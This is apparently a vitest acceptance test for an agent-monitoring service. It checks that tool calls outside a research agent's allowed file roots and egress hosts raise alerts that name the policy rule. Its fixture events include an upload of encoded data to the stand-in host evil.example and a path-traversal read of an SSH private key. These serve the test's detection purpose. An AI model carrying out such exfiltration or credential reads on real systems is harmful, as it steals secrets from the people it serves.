import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runPendingDetections } from '../../lib/detect';
import { handleIngest } from '../../lib/ingest';
import { saveAgentPolicy } from '../../lib/policies';
import { freshDatabase } from '../support/freshDatabase';
import { serveHandler } from '../support/httpAdapter';
import { ingestToken, ndjson, post, sampleEvent, sql } from '../support/ingestFixtures';

// Acceptance (#11 with #7): an agent's call outside its allowed roots or hosts raises an alert naming the policy rule.
let server: Awaited<ReturnType<typeof serveHandler>>;
type AlertRow = { detector: string; severity: string; title: string; explanation: string; subject_agent: string | null; evidence_seqs: string[] };
const alerts = () => sql<AlertRow>('SELECT detector, severity, title, explanation, subject_agent, evidence_seqs FROM alerts ORDER BY created_at, title');

beforeAll(async () => {
  await freshDatabase();
  server = await serveHandler({ '/api/v1/ingest': handleIngest });
});
afterAll(() => server.close());

describe('agent policy violations become alerts', () => {
  it('names the agent, policy version and broken rule; calls inside the policy raise nothing', async () => {
    const admin = { id: null, label: 'admin@example.com' };
    expect((await saveAgentPolicy({ agentId: 'research-bot', allowedTools: 'fetch_url, read_file', allowedFileRoots: '/srv/docs', allowedEgressHosts: 'docs.acme.dev' }, admin)).ok).toBe(true);
    // v2 is the one in force: v1 allowed wiki.acme.dev, v2 does not.
    expect((await saveAgentPolicy({ agentId: 'research-bot', allowedTools: 'fetch_url, read_file', allowedFileRoots: '/srv/docs', allowedEgressHosts: 'docs.acme.dev, *.wikipedia.org' }, admin)).ok).toBe(true);
    const token = await ingestToken('production');
    const call = (n: number, tool: string, sideEffects: unknown[]) =>
      sampleEvent(n, { id: `rb-${n}`, environment: 'production', agent_id: 'research-bot', tool_name: tool, session_id: `s-${n}`, side_effects: sideEffects });
    const events = [
      call(1, 'read_file', [{ kind: 'file_read', target: '/srv/docs/handbook.md' }]),
      call(2, 'fetch_url', [{ kind: 'http', target: 'https://en.wikipedia.org/wiki/MCP' }, { kind: 'dns', target: 'docs.acme.dev' }]),
      call(3, 'fetch_url', [{ kind: 'http', target: 'https://evil.example/upload?d=c2VjcmV0' }]),
      call(4, 'read_file', [{ kind: 'file_read', target: '/srv/docs/../../home/ana/.ssh/id_ed25519' }]),
    ];
    const stored = await post(server.url, token, ndjson(events));
    expect(stored.body).toMatchObject({ accepted: 4, first_seq: 0 });

    const report = await runPendingDetections();
    expect(report.failures).toEqual([]);
    const raised = (await alerts()).filter((alert) => alert.detector === 'forbidden_side_effect');
    expect(raised).toHaveLength(2);
    const egress = raised.find((alert) => alert.explanation.includes('egress'))!;
    expect(egress.explanation).toBe('policy for agent research-bot v2: egress host evil.example is not in allowed egress hosts');
    expect(egress).toMatchObject({ subject_agent: 'research-bot', evidence_seqs: ['2'] });
    const files = raised.find((alert) => alert.explanation.includes('file'))!;
    expect(files.explanation).toBe('policy for agent research-bot v2: file path /home/ana/.ssh/id_ed25519 is not under allowed file roots');
    expect(files).toMatchObject({ subject_agent: 'research-bot', evidence_seqs: ['3'] });
  });
});
